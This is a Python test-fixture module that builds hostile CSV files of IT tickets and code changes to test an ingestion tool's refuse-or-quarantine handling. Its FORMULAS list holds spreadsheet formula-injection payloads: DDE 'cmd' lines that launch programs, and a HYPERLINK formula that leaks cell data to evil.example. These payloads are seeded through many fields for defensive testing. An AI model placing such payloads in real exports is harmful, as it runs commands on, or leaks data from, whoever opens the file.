"""A hand-written corpus of hostile ticket and change files, as bytes, plus the CSV builders the tests share.

Each entry is ``name -> (bytes, expectation)``: ``"refuse"`` means the file is unusable as a whole (exit 2 and one
line), ``"accept"`` means it is read and every row ends up clean or quarantined. Builders take no paths: the tests
write the bytes wherever they like, so the corpus never depends on the filesystem.
"""

from __future__ import annotations

import csv
import gzip
import io
import random

TICKET_HEADER: tuple[str, ...] = (
    "", "number", "type", "date", "contact_type", "short_description", "content", "category", "subcategory",
    "customer", "resolved_at", "close_notes", "agent", "reassigned_count", "resolution_time", "issue/request",
    "software/system", "output", "assignment_group", "item_id", "role", "poor_close_notes",
    "info_score_close_notes", "info_score_poor_close_notes",
)  # fmt: skip

CHANGE_HEADER: tuple[str, ...] = (
    "_id", "date", "bug", "ns", "nd", "nf", "entrophy", "la", "ld", "lt", "fix", "ndev", "age", "nuc", "exp", "rexp",
    "sexp", "message", "diff_summary",
)  # fmt: skip

# Cells a spreadsheet would run: the classic DDE payload, and each trigger character (also after blanks).
FORMULAS: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
)
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def ticket_row(number: str, **overrides: str) -> dict[str, str]:
    """One valid raw ticket (all strings), with fields overridden as needed."""
    row = {c: "" for c in TICKET_HEADER[1:]}
    row.update({
        "number": number, "type": "Incident", "date": "3/31/2021 14:13", "contact_type": "Email",
        "short_description": f"Outlook crashes {number}",
        "content": f"Outlook closes when I open the calendar, case {number}.",
        "category": "SOFTWARE", "subcategory": "ERROR", "customer": "Morgan, Gregory", "agent": "Fortner, Lucas",
        "issue/request": "Outlook Crash", "software/system": "Outlook", "assignment_group": "DESKTOP SUPPORT",
    })
    row.update(overrides)
    return row


def tickets_csv(rows: list[dict[str, str]], *, header: tuple[str, ...] = TICKET_HEADER, sep: str = ",",
                encoding: str = "utf-8", newline: str = "\n", quoting: int = csv.QUOTE_MINIMAL) -> bytes:
    """Rows written the way the source system exports them (unnamed index column first).

    With the default quoting a cell holding a bare CR is written unquoted (Python's csv only quotes the characters
    of the line terminator): a broken line, as some exporters write them. ``csv.QUOTE_ALL`` keeps such cells whole.
    """
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=sep, lineterminator=newline, quoting=quoting)
    writer.writerow(header)
    for i, row in enumerate(rows):
        writer.writerow([str(i)] + [row.get(c, "") for c in header[1:]])
    return buf.getvalue().encode(encoding)


def change_row(i: int, **overrides: object) -> dict[str, object]:
    """One valid change (commit i, one day after the previous one)."""
    row: dict[str, object] = {
        "_id": f"{i:040x}", "date": 1_600_000_000 + 86_400 * i, "bug": i % 3 == 0, "ns": 1, "nd": 2, "nf": 3,
        "entrophy": 0.5, "la": 10 + i, "ld": 2, "lt": 300, "fix": i % 2, "ndev": 2, "age": 4.5, "nuc": 3,
        "exp": 20, "rexp": 1.5, "sexp": 4, "message": f"Fix handler {i}", "diff_summary": f"api/h{i}.py +10-2",
    }
    row["bug"] = int(bool(row["bug"]))
    row.update(overrides)
    return row


def changes_csv(rows: list[dict[str, object]], *, header: tuple[str, ...] = CHANGE_HEADER, sep: str = ",") -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=sep, lineterminator="\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(c, "") for c in header])
    return buf.getvalue().encode("utf-8")


def _tickets(n: int = 12, **overrides: str) -> list[dict[str, str]]:
    return [ticket_row(f"INC{1000 + i}", **overrides) for i in range(n)]


def _truncate_inside_quote() -> bytes:
    data = tickets_csv(_tickets(6, content='He said "open, then close,\nthen crash" twice'))
    return data[: data.rfind(b"then crash")]  # the last record stops inside a quoted field


def _ragged() -> bytes:
    lines = tickets_csv(_tickets(8)).decode().splitlines(keepends=True)
    lines[3] = lines[3].rstrip("\n") + ",extra,cells,here\n"  # too many fields
    lines[5] = ",".join(lines[5].split(",")[:6]) + "\n"  # too few fields
    return "".join(lines).encode()


def _repeated_header_row() -> bytes:
    text = tickets_csv(_tickets(4)).decode()
    header = text.splitlines(keepends=True)[0]
    return (text + header + tickets_csv(_tickets(3)).decode().split("\n", 1)[1]).encode()


def _duplicate_column_names() -> bytes:
    header = (*TICKET_HEADER, "content", "number")
    rows = [dict(r) for r in _tickets(5)]
    return tickets_csv(rows, header=header)


def _mixed_encodings() -> bytes:
    utf8 = tickets_csv(_tickets(3, content="Café crashes: naïve résumé ✓"))
    latin1 = tickets_csv(_tickets(3, content="Café plante: naïve résumé"), encoding="latin-1").split(b"\n", 1)[1]
    return utf8 + latin1.replace(b"INC100", b"INC200")


def _giant_field() -> bytes:
    rows = _tickets(4)
    rows[1]["content"] = "A" * 1_048_576
    rows[2]["close_notes"] = "B" * 1_048_576  # not model input, still oversize
    return tickets_csv(rows)


def _duplicate_ids() -> bytes:
    rows = _tickets(4)
    rows.append(ticket_row("INC1001", content="Completely different problem: printer on fire."))
    rows.append(dict(rows[0]))  # exact copy
    return tickets_csv(rows)


def _formula_everywhere() -> bytes:
    rows = []
    for i, payload in enumerate(FORMULAS):
        rows.append(ticket_row(f"INC{3000 + i}", short_description=payload + " subject", customer=payload,
                               close_notes=payload, subcategory=payload, content=f"body {i} {payload}"))
        rows.append(ticket_row(payload, content=f"formula number {i}"))  # quarantined: becomes a raw cell
        rows.append(ticket_row(f"INC{3100 + i}", date=payload))  # unparseable date: quarantined with the formula
    return tickets_csv(rows, quoting=csv.QUOTE_ALL)


def _nan_and_dates() -> bytes:
    rows = _tickets(3)
    rows += [
        ticket_row("INC2001", date="12/31/2099 23:59", reassigned_count="NaN", resolution_time="-inf"),
        ticket_row("INC2002", date="1/1/1970 00:00"),
        ticket_row("INC2003", date="2/30/2021 10:00"),
        ticket_row("INC2004", date="not a date", resolution_time="inf"),
        ticket_row("INC2005", date="2024-06-01 08:00:00", content="NaN"),
        ticket_row("INC2006", date="", content="no date at all"),
        ticket_row("NaN", content="ticket number NaN"),
    ]
    return tickets_csv(rows)


def _extra_and_missing_optional() -> bytes:
    header = tuple(c for c in TICKET_HEADER if c not in ("assignment_group", "date", "customer")) + ("x_extra",)
    return tickets_csv([{**r, "x_extra": "=1+1"} for r in _tickets(6)], header=header)


def _quoted_newlines_crlf() -> bytes:
    return tickets_csv(_tickets(5, content="line one\r\nline two\n\nline three"), newline="\r\n")


def _old_mac_newlines() -> bytes:
    return tickets_csv(_tickets(5), newline="\r")


def _random_bytes(seed: int, n: int = 4096) -> bytes:
    return random.Random(seed).randbytes(n)


# name -> (bytes, "refuse" | "accept" | "either")
TICKET_CORPUS: dict[str, tuple[bytes, str]] = {
    "empty file": (b"", "refuse"),
    "only blanks": (b" \n\r\n\t\n", "refuse"),
    "only a BOM": (b"\xef\xbb\xbf", "refuse"),
    "random bytes": (_random_bytes(1), "refuse"),
    "random bytes (high bit only)": (bytes(random.Random(2).randrange(128, 256) for _ in range(4096)), "refuse"),
    "gzip file": (gzip.compress(tickets_csv(_tickets(5)), mtime=0), "refuse"),
    "prose, not a CSV": (b"Dear team,\nplease find the export attached.\nRegards\n", "refuse"),
    "only a header": (tickets_csv([]), "refuse"),
    "header with CRLF, no rows": (tickets_csv([], newline="\r\n"), "refuse"),
    "required column missing": (tickets_csv(_tickets(3), header=tuple(c for c in TICKET_HEADER if c != "content")),
                                "refuse"),
    "header names in another case": (tickets_csv(_tickets(3)).replace(b"number", b"Number", 1), "refuse"),
    "UTF-16 export (Excel 'Unicode text')": (tickets_csv(_tickets(3), sep="\t", encoding="utf-16"), "accept"),
    "UTF-8 with BOM": (b"\xef\xbb\xbf" + tickets_csv(_tickets(5)), "accept"),
    "Latin-1 export": (tickets_csv(_tickets(4, content="Café crashes, naïve"), encoding="latin-1"), "accept"),
    "mixed UTF-8 and Latin-1 rows": (_mixed_encodings(), "accept"),
    "semicolon delimiter": (tickets_csv(_tickets(5), sep=";"), "accept"),
    "tab delimiter": (tickets_csv(_tickets(5), sep="\t"), "accept"),
    "ragged rows": (_ragged(), "accept"),
    "truncated inside a quoted field": (_truncate_inside_quote(), "accept"),
    "truncated mid-line": (tickets_csv(_tickets(6))[:-37], "accept"),
    "repeated header row (two exports concatenated)": (_repeated_header_row(), "accept"),
    "duplicate column names": (_duplicate_column_names(), "accept"),
    "1 MB fields": (_giant_field(), "accept"),
    "duplicate ids with different content": (_duplicate_ids(), "accept"),
    "formula cells everywhere": (_formula_everywhere(), "accept"),
    "bare CR inside unquoted cells": (tickets_csv(_tickets(5, content="\r=1+1 then more")), "accept"),
    "NaN/inf metrics, future/past/invalid dates": (_nan_and_dates(), "accept"),
    "extra columns, optional columns missing": (_extra_and_missing_optional(), "accept"),
    "quoted newlines and CRLF": (_quoted_newlines_crlf(), "accept"),
    "old Mac CR line endings": (_old_mac_newlines(), "accept"),
    "NUL byte after the first 64 KiB": (tickets_csv(_tickets(400)) + b"0,INC9\x00,Incident\n", "accept"),
}


def _changes(n: int = 30, **overrides: object) -> list[dict[str, object]]:
    return [change_row(i, **overrides) for i in range(n)]


def _changes_hostile_values() -> bytes:
    rows = _changes(30)
    rows += [
        change_row(100, la="NaN"), change_row(101, ld="inf"), change_row(102, nf="-3"), change_row(103, age="-inf"),
        change_row(104, date=4_102_444_800 + 86_400),  # 2100: in the future
        change_row(105, date="not a date"), change_row(106, date="2021-06-01T12:00:00Z"),
        change_row(107, date=1_600_000_000 - 10 * 86_400),  # out of order
        change_row(108, bug="2"), change_row(109, fix="maybe"), change_row(110, _id=""),
        change_row(3, la=999),  # duplicate id, different content
        change_row(4),  # exact duplicate
        change_row(111, message=FORMULAS[0], diff_summary=FORMULAS[1], _id=FORMULAS[2]),
        change_row(112, la=FORMULAS[0]),  # quarantined: the raw formula goes to quarantine.csv
    ]
    return changes_csv(rows)


CHANGE_CORPUS: dict[str, tuple[bytes, str]] = {
    "empty file": (b"", "refuse"),
    "random bytes": (_random_bytes(3), "refuse"),
    "gzip file": (gzip.compress(changes_csv(_changes(30)), mtime=0), "refuse"),
    "only a header": (changes_csv([]), "refuse"),
    "metric column missing": (changes_csv(_changes(30), header=tuple(c for c in CHANGE_HEADER if c != "la")),
                              "refuse"),
    "semicolon delimiter": (changes_csv(_changes(30), sep=";"), "refuse"),
    "UTF-8 with BOM": (b"\xef\xbb\xbf" + changes_csv(_changes(30)), "accept"),
    # Both were refused as a whole (R1 in docs/reliability.md): now read as Latin-1, and the odd rows quarantined.
    "Latin-1 message text": (changes_csv(_changes(30, message="Fix café naïve")).decode().encode("latin-1"),
                             "accept"),
    "ragged rows": (changes_csv(_changes(30)) + b"abc,1600000000,0,1\n" + b"x,1,0" + b",1" * 30 + b"\n", "accept"),
    "truncated mid-line": (changes_csv(_changes(30))[:-70], "accept"),
    "repeated header row": (changes_csv(_changes(30)) + changes_csv(_changes(30)), "accept"),
    "1 MB message": (changes_csv(_changes(30, message="M" * 1_048_576)), "accept"),
    "NaN/inf/negative metrics, bad and future dates, duplicates, formulas": (_changes_hostile_values(), "accept"),
    "extra columns and the label copy": (changes_csv([{**r, "__": r["bug"], "extra": "=1"} for r in _changes(30)],
                                                     header=(*CHANGE_HEADER, "__", "extra")), "accept"),
}


def formula_cells(csv_bytes: bytes) -> list[str]:
    """Cells of a CSV a spreadsheet would evaluate (OWASP's list: they start with ``= + - @``, tab or CR) and that
    are not plain numbers (``-3`` or ``-inf`` is data a spreadsheet shows as is)."""
    text = csv_bytes.decode("utf-8")
    csv.field_size_limit(1 << 30)  # the corpus has 1 MB cells
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell[:1] in FORMULA_TRIGGERS and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
